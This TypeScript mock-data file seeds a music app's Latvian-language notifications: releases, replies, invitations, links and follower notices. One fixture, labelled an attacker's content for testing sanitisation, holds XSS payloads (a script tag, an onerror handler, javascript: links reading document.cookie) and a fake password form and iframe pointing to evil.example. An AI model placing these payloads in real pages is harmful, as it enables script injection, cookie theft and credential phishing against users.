import { days, hours, minutes } from '@/lib/dates/duration'

import { workspaceInvitation } from '../factories/workspace-invitation'
import type { MockNotification, MockNotificationChoice } from '../store/db'
import { personas } from './personas'
import { INVITES, workspaces } from './workspaces'

type Sketch = Pick<MockNotification, 'type' | 'data'> & { ago: number; isRead?: boolean }

const RELEASE = 'App\\Notifications\\ArtistPublishedMusic'
const REPLY = 'App\\Notifications\\CommentReceivedReply'
const FOLLOWER = 'App\\Notifications\\UserFollowed'
const EDITORS = 'App\\Notifications\\EditorsWrote'

/** Number of read notifications, enough for a second page. */
const OLD_FOLLOWERS = 32

const release: Sketch = {
  type: RELEASE,
  ago: minutes(4),
  data: {
    image: 'storage/album_images/1.svg',
    mainAction: { label: 'Klausīties', action: { path: 'album/1' } },
    lines: [
      { type: 'primary', content: '<strong>Raimonds Ozols</strong> laidis klajā jaunu albumu' },
      { content: '12 dziesmas <em>rītam</em> un ceļam', icon: 'album' },
    ],
  },
}

const reply: Sketch = {
  type: REPLY,
  ago: hours(2),
  data: {
    image: 'storage/avatars/51.svg',
    mainAction: { label: 'Skatīt', action: { path: 'track/1' } },
    lines: [
      { type: 'primary', content: '<strong>Elīna Āboliņa</strong> atbildēja uz tavu komentāru' },
      {
        content: '„Mums arī ļoti patīk! 🎵”',
        icon: 'comment',
        action: { label: 'Visas atbildes', action: { path: 'track/1#comments' } },
      },
    ],
  },
}

/** Links to another site. */
const foreign: Sketch = {
  type: EDITORS,
  ago: days(1),
  data: {
    mainAction: { label: 'Biļetes', action: 'https://koncerti.example/berniem?kods=12' },
    lines: [{ type: 'primary', content: 'Kokles koncerts bērniem <b>Cēsīs</b> 14. martā' }],
  },
}

/** Links to a screen by a URL without a host. */
const relative: Sketch = {
  type: EDITORS,
  ago: days(2),
  isRead: true,
  data: {
    mainAction: { label: 'Atvērt', action: '/library/songs' },
    lines: [
      { type: 'primary', content: 'Tava mūzika tagad ir vienuviet' },
      { content: 'Dziesmas, albumi un izpildītāji.' },
    ],
  },
}

/** Content from an attacker; the client must render all of it inert. */
const attack: Sketch = {
  type: EDITORS,
  ago: days(3),
  data: {
    mainAction: { label: 'Balva', action: 'javascript:alert(document.cookie)' },
    lines: [
      {
        type: 'primary',
        content:
          'Tu esi laimējis<script>window.attacked = "script"</script><img src="x" onerror="window.attacked = \'image\'"> ' +
          '<a href="javascript:window.attacked = \'link\'">balvu</a>',
      },
      {
        content:
          '<form action="https://evil.example"><input type="password" name="password"><button>Ieiet</button></form>' +
          '<div style="position:fixed;inset:0" id="root">Aizsegts</div><iframe src="https://evil.example"></iframe>',
        action: { label: 'Saņemt', action: '//evil.example/balva' },
      },
    ],
  },
}

const invitation = (inviteId: string, ago: number): Sketch => {
  const [first, last] = personas.workspaceOwner.name
  const inviter = { display_name: `${first} ${last}`, avatar: `storage/avatars/${personas.workspaceOwner.id}.svg` }
  return { ...workspaceInvitation({ inviter, workspace: workspaces[0]?.name ?? '', inviteId }), ago }
}

/** An invitation that was withdrawn: accepting or declining it is a 404. */
const staleInvite = invitation('ffffffff-0000-4000-9000-000000000000', days(4))

const follower = (index: number): Sketch => ({
  type: FOLLOWER,
  ago: days(5 + index),
  isRead: true,
  data: {
    image: `storage/avatars/${51 + index}.svg`,
    mainAction: { label: 'Skatīt profilu', action: { path: `user/${51 + index}` } },
    lines: [{ type: 'primary', content: 'Tev ir jauns sekotājs' }],
  },
})

/** Creates notifications: every kind for one user, a few for a parent, none for the others. */
export function notifications(now: number): MockNotification[] {
  const entries: [userId: number, Sketch][] = [
    ...[release, reply, invitation(INVITES.free, hours(3)), foreign, relative, attack, staleInvite].map(
      (sketch): [number, Sketch] => [personas.free.id, sketch],
    ),
    ...Array.from({ length: OLD_FOLLOWERS }, (_, index): [number, Sketch] => [personas.free.id, follower(index)]),
    [personas.parent.id, release],
    [personas.parent.id, { ...relative, isRead: false }],
    [personas.parent.id, follower(3)],
    [personas.invited.id, invitation(INVITES.invited, minutes(20))],
  ]
  return entries.map(([user_id, { type, data, ago, isRead }], index) => {
    const created_at = new Date(now - ago).toISOString()
    return { id: index + 1, user_id, type, data, created_at, read_at: isRead ? created_at : null }
  })
}

/** Stored channel choices: some channels for one topic, none for another. */
export const notificationChoices: MockNotificationChoice[] = [
  { id: 1, user_id: personas.free.id, notif_id: 'A01', channels: { email: true, browser: false, mobile: true } },
  { id: 2, user_id: personas.free.id, notif_id: 'B01', channels: {} },
]
